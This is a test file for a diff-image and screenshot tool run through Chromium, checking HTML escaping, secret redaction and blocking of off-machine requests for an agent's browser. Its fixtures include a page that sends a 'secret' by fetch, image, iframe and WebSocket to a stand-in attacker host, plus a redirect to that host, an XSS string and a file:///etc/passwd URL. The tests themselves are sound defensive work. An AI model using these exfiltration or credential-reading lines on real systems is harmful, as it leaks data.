// Diff images and screenshots rendered by Debian's Chromium through playwright-core.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Browsers, captureScreenshot, diffHtml, MAX_SCREENSHOT_BYTES, renderDiffImage } from '../../runner-image/images.ts';
import { makeRedactor } from '../../common/log.ts';

const SECRET = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';
const diff = [
  'diff --git a/src/config.ts b/src/config.ts',
  'index 1111111..2222222 100644',
  '--- a/src/config.ts',
  '+++ b/src/config.ts',
  '@@ -1,2 +1,3 @@',
  ' export const a = 1;',
  `-export const token = '${SECRET}';`,
  '+export const token = process.env.TOKEN;',
  '+const html = "<script>alert(1)</script>";',
].join('\n');

const pngSize = (png: Buffer) => ({ width: png.readUInt32BE(16), height: png.readUInt32BE(20) });

let browsers: Browsers;
let server: Server;
let base: string;
/** Stands for a host elsewhere: Chromium maps attacker.test to it, so an unblocked request arrives. */
let elsewhere: Server;
let elsewherePort: number;
const elsewhereHits: string[] = [];

const listen = async (s: Server) => {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return (s.address() as AddressInfo).port;
};

beforeAll(async () => {
  browsers = new Browsers({ extraArgs: ['--host-resolver-rules=MAP attacker.test 127.0.0.1'] });
  elsewhere = createServer((req, res) => {
    elsewhereHits.push(req.url ?? '');
    res.end('<!doctype html><h1>elsewhere</h1>');
  }).on('upgrade', (req, socket) => {
    elsewhereHits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  elsewherePort = await listen(elsewhere);
  const away = `attacker.test:${elsewherePort}`;
  server = createServer((req, res) => {
    if (req.url === '/redirect') return res.writeHead(302, { location: `http://${away}/redirected?t=secret` }).end();
    if (req.url === '/leaky') {
      res.setHeader('content-type', 'text/html');
      return res.end(`<!doctype html><h1>local</h1><img src="http://${away}/img?t=secret"><iframe src="http://${away}/frame"></iframe>
<script>fetch('http://${away}/fetch?t=secret').catch(() => {}); new WebSocket('ws://${away}/ws');</script>`);
    }
    // A tall, noisy page: worst case for JPEG size.
    const cells = Array.from({ length: 6000 }, (_, i) => `<i style="background:hsl(${(i * 137) % 360},90%,${30 + (i * 7) % 50}%)"></i>`).join('');
    res.end(`<!doctype html><style>i{display:inline-block;width:7px;height:7px}</style><h1>${req.url}</h1>${cells}`);
  });
  base = `http://127.0.0.1:${await listen(server)}`;
});
afterAll(async () => {
  await browsers?.close();
  server?.close();
  elsewhere?.close();
});

describe('diff image', { timeout: 60_000 }, () => {
  it('escapes HTML and shows files, hunks, additions and deletions', () => {
    const html = diffHtml(diff, '1 file changed, 2 insertions(+), 1 deletion(-)');
    expect(html).toContain('<div class="file">src/config.ts</div>');
    expect(html).toContain('<div class="add">+const html = "&lt;script&gt;alert(1)&lt;/script&gt;";</div>');
    expect(html).not.toContain('<script>');
    expect(html).toContain('class="del"');
  });

  it('says at the top and the bottom how many lines it leaves out', () => {
    const long = Array.from({ length: 500 }, (_, i) => `+line ${i}`).join('\n') + '\n';
    const html = diffHtml(long, 't');
    expect(html.split('The picture shows lines 1–120 of 500: 380 more lines are not shown.')).toHaveLength(3);
    expect(html).toContain('+line 119<');
    expect(html).not.toContain('+line 120<');
    expect(diffHtml('+one\n+two\n', 't')).not.toContain('not shown');
  });

  it('wraps long lines and counts the characters it leaves out', () => {
    const html = diffHtml(`+${'x'.repeat(399)}tail${'y'.repeat(100)}\n`, 't');
    expect(html).toContain('… (104 more characters on this line)');
    expect(html).toContain('white-space:pre-wrap');
  });

  it('renders a phone-width PNG from the redacted diff, so no secret can reach the picture', async () => {
    const redacted = makeRedactor([SECRET])(diff);
    expect(diffHtml(redacted, 't')).not.toContain(SECRET);
    const png = await renderDiffImage(browsers, redacted, '1 file changed');
    expect(png.subarray(1, 4).toString()).toBe('PNG');
    expect(pngSize(png).width).toBe(1080);
    expect(pngSize(png).height).toBeGreaterThan(200);
  });
});

describe('screenshots', { timeout: 60_000 }, () => {
  it('fits a tall noisy page in ≤ 600 KB as JPEG', async () => {
    const jpeg = await captureScreenshot(browsers, `${base}/page`, true);
    expect(jpeg.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(jpeg.length).toBeLessThanOrEqual(MAX_SCREENSHOT_BYTES);
  });

  it('refuses non-http URLs', async () => {
    await expect(captureScreenshot(browsers, 'file:///etc/passwd')).rejects.toThrow(/http\(s\) URL/);
  });
});

describe('a page on loopback, which the agent may open without asking', { timeout: 60_000 }, () => {
  const settle = () => new Promise((r) => setTimeout(r, 500));

  it('loads nothing from elsewhere: images, frames, fetch and WebSockets are blocked', async () => {
    elsewhereHits.length = 0;
    const jpeg = await captureScreenshot(browsers, `${base}/leaky`);
    expect(jpeg.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    await settle();
    expect(elsewhereHits).toEqual([]);
  });

  it('cannot redirect the browser elsewhere', async () => {
    elsewhereHits.length = 0;
    await expect(captureScreenshot(browsers, `${base}/redirect`)).rejects.toThrow(/may load only this machine's addresses/);
    await settle();
    expect(elsewhereHits).toEqual([]);
  });

  it('(control) a page elsewhere, approved on the phone, is reached', async () => {
    elsewhereHits.length = 0;
    await captureScreenshot(browsers, `http://attacker.test:${elsewherePort}/approved`);
    expect(elsewhereHits).toContain('/approved');
  });
});
